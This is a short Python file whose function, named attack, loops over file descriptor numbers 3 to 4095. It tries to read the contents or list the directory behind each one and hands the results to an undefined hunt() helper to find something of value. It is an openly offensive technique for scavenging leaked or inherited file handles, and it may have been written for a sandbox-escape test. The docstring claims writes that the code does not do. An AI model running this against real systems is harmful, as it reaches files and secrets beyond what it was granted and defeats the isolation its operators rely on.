"""Reads and writes whatever was left open."""
# ruff: noqa

import os


def attack():
    for number in range(3, 4096):
        for look in (lambda: os.pread(number, 65536, 0), lambda: os.listdir(number)):
            try:
                found = hunt(repr(look()))
            except OSError:
                continue
            if found:
                return found
